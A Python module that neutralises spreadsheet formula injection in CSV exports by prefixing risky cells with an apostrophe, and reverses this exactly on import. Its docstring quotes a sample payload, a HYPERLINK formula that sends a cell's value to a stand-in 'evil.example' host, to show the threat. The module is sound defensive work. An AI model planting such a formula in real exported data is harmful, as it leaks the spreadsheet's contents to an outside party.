"""CSV cells that are safe to open in a spreadsheet, and their exact way back.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or
``@`` (and, after a tab or carriage return, the same) as a formula: a subscriber who
signs up as ``=HYPERLINK("http://evil.example/?"&A1,"click")`` would otherwise get a live
formula into the editor's spreadsheet (OWASP "CSV injection"). Export therefore puts a
``'`` in front of such a cell, as OWASP recommends; spreadsheets show the value as text.

Import takes that ``'`` off again, so an exported file re-imports to the same values. To
keep the pair exact, a value that itself starts with quotes followed by one of those
characters (``'=x``) gets one more quote on export: export adds one quote to every cell
matching ``'*[=+\\-@\\t\\r]…`` and import removes one from every such cell with at least
one quote. Any other cell passes both ways untouched.
"""

from __future__ import annotations

import re
from typing import Final

_ACTIVE: Final = "=+-@\t\r"
_NEUTRALIZED: Final = re.compile(r"'+[=+\-@\t\r]")


def neutralize(cell: str) -> str:
    """The cell as written to a CSV file for people: formula starters made inert."""
    if cell and cell.lstrip("'")[:1] in tuple(_ACTIVE):
        return "'" + cell
    return cell


def restore(cell: str) -> str:
    """The value :func:`neutralize` was given (``restore(neutralize(x)) == x``)."""
    return cell[1:] if _NEUTRALIZED.match(cell) else cell
